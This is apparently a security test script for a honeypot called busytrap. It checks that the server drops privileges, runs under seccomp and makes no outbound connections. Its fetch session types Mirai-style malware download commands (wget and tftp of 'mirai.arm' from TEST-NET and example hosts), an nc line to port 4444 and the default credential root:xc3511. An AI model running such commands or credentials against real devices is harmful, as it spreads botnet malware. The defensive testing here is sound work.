#!/usr/bin/env bash
# Host security of `busytrap serve`:
# 1. --user nobody: after binding, every uid and gid is nobody's, no capability is left (CapEff,
#    CapPrm 0), no_new_privs is set and the seccomp filter is on (Seccomp: 2), on every thread.
# 2. Under `strace -f`, a session that runs wget/tftp/ftpget/nc/telnet against a non-loopback
#    address (203.0.113.5, TEST-NET-3) or a host name makes no connect() at all, no DNS query
#    and no sendto() to an address:
#    the emulated applets only pretend, and the seccomp filter would refuse it anyway.
# 3. With server.seccomp = false the process has no filter (the switch works).
source "$(dirname "$0")/lib/honeypot.sh"
command -v strace >/dev/null || fail "strace is missing (scripts/install-deps.sh)"

status_field() { awk -v k="$1:" '$1 == k { $1 = ""; sub(/^ /, ""); print }' "/proc/$2/status"; }

# 1. Dropped privileges. The log directory must be writable by nobody.
chmod 755 "$WORK"
mkdir -p "$WORK/logs" && chown nobody "$WORK/logs"
LOG="$WORK/logs/busytrap.json"
TTYLOG="$WORK/logs/tty"
start_honeypot --no-delays --user nobody --set log.downloads_dir=
nobody_uid=$(id -u nobody)
for task in /proc/"$HONEYPOT_PID"/task/*; do
  tid=${task##*/}
  uids=$(awk '$1 == "Uid:" { print $2, $3, $4, $5 }' "$task/status")
  [ "$uids" = "$nobody_uid $nobody_uid $nobody_uid $nobody_uid" ] || fail "thread $tid Uid: $uids"
  for cap in CapEff CapPrm; do
    value=$(awk -v k="$cap:" '$1 == k { print $2 }' "$task/status")
    [ "$value" = 0000000000000000 ] || fail "thread $tid $cap $value"
  done
  [ "$(awk '$1 == "Seccomp:" { print $2 }' "$task/status")" = 2 ] || fail "thread $tid has no seccomp filter"
  [ "$(awk '$1 == "NoNewPrivs:" { print $2 }' "$task/status")" = 1 ] || fail "thread $tid NoNewPrivs"
done
echo "as nobody: $(status_field Uid "$HONEYPOT_PID" | tr '\t' ' '), CapEff $(status_field CapEff "$HONEYPOT_PID"), Seccomp $(status_field Seccomp "$HONEYPOT_PID"), $(ls /proc/"$HONEYPOT_PID"/task | wc -l) threads"
# It still serves, and logs as nobody.
python3 "$TOOLS/mirai_scanner.py" 127.0.0.1 "$PORT" root:xc3511 >"$WORK/scanner.out" 2>&1 \
  || fail "the Mirai scanner failed as nobody: $(cat "$WORK/scanner.out")"
stop_honeypot
[ "$(stat -c %U "$LOG")" = nobody ] || fail "the log is not owned by nobody"
grep -q '"cowrie.command.input"' "$LOG" || fail "no command logged as nobody"

# 2. No connect() under strace. (Without --user: looking up a user may talk to nscd.)
LOG="$WORK/strace.json"
TTYLOG="$WORK/tty"
# (LeakSanitizer cannot run in a traced process: the sanitizer build skips its exit-time check.)
ASAN_OPTIONS="${ASAN_OPTIONS:-}:detect_leaks=0" \
  "$BUSYTRAP" serve --listen "127.0.0.1:$PORT" --log "$LOG" --set log.sqlite= --ttylog-dir "$TTYLOG" \
  --no-delays >"$WORK/serve.out" 2>"$WORK/serve.err" &
HONEYPOT_PID=$!
# strace attaches to the running server (and its threads) so that start-up is not traced.
for _ in $(seq 100); do grep -q "listening on" "$WORK/serve.out" 2>/dev/null && break; sleep 0.1; done
grep -q "listening on" "$WORK/serve.out" || fail "server not started"
strace -f -qq -e trace=connect,sendto,socket -o "$WORK/strace.txt" -p "$HONEYPOT_PID" 2>"$WORK/strace.err" &
STRACE_PID=$!
sleep 1
python3 - "$PORT" >"$WORK/fetch.out" 2>&1 <<'PY' || fail "fetch session: $(cat "$WORK/fetch.out")"
import socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=10)
buf = b""
def until(want):
    global buf
    while want not in buf:
        data = s.recv(65536)
        assert data, buf
        buf += data
    out, buf = buf, b""
    return out
until(b"login: "); s.sendall(b"root\r\n")
until(b"Password: "); s.sendall(b"xc3511\r\n")
until(b"# ")
for command in [b"wget http://203.0.113.5/x", b"/bin/busybox wget http://203.0.113.5:8080/bins/mirai.arm -O - > dvrHelper",
                b"tftp -g -l x -r mirai.arm 203.0.113.5", b"/bin/busybox ftpget 203.0.113.5 x x",
                b"nc 203.0.113.5 4444", b"telnet 203.0.113.5 23", b"ping -c 1 203.0.113.5",
                b"curl -O http://[2001:db8::5]/x", b"wget http://malware.example.com/bins/x86",
                b"tftp -g -r mirai.arm update.example.net"]:
    s.sendall(command + b"\r\n")
    print(command.decode(), "->", until(b"# ")[-200:])
s.close()
PY
sleep 0.5
kill -TERM "$HONEYPOT_PID"
wait "$HONEYPOT_PID" || fail "the traced server exited with $?"
HONEYPOT_PID=""
wait "$STRACE_PID" 2>/dev/null || true
[ -s "$WORK/strace.txt" ] || [ -f "$WORK/strace.txt" ] || fail "strace wrote nothing: $(cat "$WORK/strace.err")"
jq -r 'select(.eventid == "cowrie.command.input") | .input' "$LOG" | grep -q 203.0.113.5 \
  || fail "the fetch commands were not logged"
if grep -E 'connect\(|sendto\([0-9]+, .*sa_family' "$WORK/strace.txt"; then
  fail "the honeypot tried to reach another host (strace above)"
fi
if grep -E 'socket\(AF_INET' "$WORK/strace.txt"; then
  fail "the honeypot opened a network socket (strace above)"
fi
echo "strace: $(wc -l <"$WORK/strace.txt") traced calls, no connect(), no sendto() to an address, no new socket"

# 3. The switch.
LOG="$WORK/nofilter.json"
start_honeypot --no-delays --set server.seccomp=false
[ "$(status_field Seccomp "$HONEYPOT_PID")" = 0 ] || fail "server.seccomp = false still filters"
stop_honeypot
echo "serve_security OK"
